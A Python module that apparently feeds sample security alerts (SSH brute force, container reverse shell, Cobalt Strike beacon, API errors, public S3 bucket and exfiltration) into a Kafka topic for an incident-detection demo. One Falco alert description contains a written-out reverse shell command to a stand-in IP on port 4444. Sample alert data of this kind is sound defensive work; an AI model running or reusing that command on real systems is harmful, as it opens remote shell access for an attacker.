"""A realistic stream of sample alerts, so that a newcomer sees incidents flow."""

from __future__ import annotations

import asyncio
import itertools
import logging
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

from aiokafka import AIOKafkaProducer

from shared.alerts import Alert
from shared.topics import ALERTS_RAW, TopicNames

log = logging.getLogger(__name__)


def _alert(source: str, title: str, severity: str, **fields: Any) -> dict[str, Any]:
    return {
        "id": str(uuid.uuid4()),
        "source": source,
        "title": title,
        "severity": severity,
        "time": datetime.now(UTC).isoformat(),
        **fields,
    }


def scenarios(round_no: int) -> list[list[dict[str, Any]]]:
    """Four incidents' worth of alerts; hosts change every round so each round opens new incidents."""
    n = round_no
    bastion, web, api, bucket_host = f"bastion-{n:02d}", f"web-{n:02d}", f"api-gw-{n:02d}", f"etl-{n:02d}"
    return [
        [
            _alert(
                "wazuh",
                "sshd: brute force trying to get access to the system",
                "medium",
                description="Multiple authentication failures for user root from 203.0.113.45",
                host=bastion,
                user="root",
                src_ip="203.0.113.45",
                labels={"rule_id": "5712"},
            ),
            _alert(
                "wazuh",
                "sshd: authentication success after brute force",
                "high",
                description="Successful login for user deploy from 203.0.113.45 after 40 failures",
                host=bastion,
                user="deploy",
                src_ip="203.0.113.45",
                labels={"rule_id": "40112"},
            ),
            _alert(
                "falco",
                "Reverse shell spawned in a container",
                "critical",
                description="bash -i >& /dev/tcp/203.0.113.45/4444 0>&1 by user deploy",
                host=bastion,
                user="deploy",
                labels={"rule": "Reverse shell", "priority": "Critical"},
            ),
        ],
        [
            _alert(
                "suricata",
                "ET MALWARE Cobalt Strike Beacon Observed",
                "high",
                description="TLS to cdn-update.bad-actor.example (198.51.100.23), JA3 72a589da586844d7f0818ce684948eea",
                host=web,
                src_ip="10.0.4.17",
                dst_ip="198.51.100.23",
                labels={"signature_id": "2027082"},
            ),
        ],
        [
            _alert(
                "alertmanager",
                "HighErrorRate: api-gateway 5xx above 5%",
                "high",
                description="job=api-gateway instance=api-gw:8080 error ratio 0.12 for 10m",
                host=api,
                labels={"alertname": "HighErrorRate", "service": "api-gateway"},
            ),
            _alert(
                "alertmanager",
                "HighLatency: api-gateway p99 above 2s",
                "medium",
                description="p99 latency 3.4s for 10m",
                host=api,
                labels={"alertname": "HighLatency"},
            ),
        ],
        [
            _alert(
                "guardduty",
                "S3 bucket is public: customer-exports",
                "high",
                description="Policy:S3/BucketAnonymousAccessGranted on arn:aws:s3:::customer-exports",
                host=bucket_host,
                labels={"finding_type": "Policy:S3/BucketAnonymousAccessGranted"},
            ),
            _alert(
                "guardduty",
                "Data exfiltration: unusual volume of S3 GetObject",
                "high",
                description="Exfiltration:S3/AnomalousBehavior by user etl-svc from 192.0.2.77",
                host=bucket_host,
                user="etl-svc",
                src_ip="192.0.2.77",
                labels={"finding_type": "Exfiltration:S3/AnomalousBehavior"},
            ),
        ],
    ]


def demo_alerts() -> Iterator[Alert]:
    """Alerts forever, scenario by scenario, each validated against the native schema."""
    for round_no in itertools.count(1):
        for scenario in scenarios(round_no):
            for alert in scenario:
                yield Alert.model_validate(alert)


async def run_demo(producer: AIOKafkaProducer, names: TopicNames, *, interval_s: float = 2.0) -> None:
    """Publish one sample alert every ``interval_s`` until cancelled."""
    topic = names(ALERTS_RAW)
    for alert in demo_alerts():
        await producer.send_and_wait(topic, key=partition_key(alert), value=alert.model_dump_json().encode())
        log.info("demo alert sent: %s on %s", alert.title, alert.host)
        await asyncio.sleep(interval_s)


def partition_key(alert: Alert) -> bytes:
    """Alerts about one entity share a partition, so one detector instance sees them in order."""
    return alert.entity.encode()
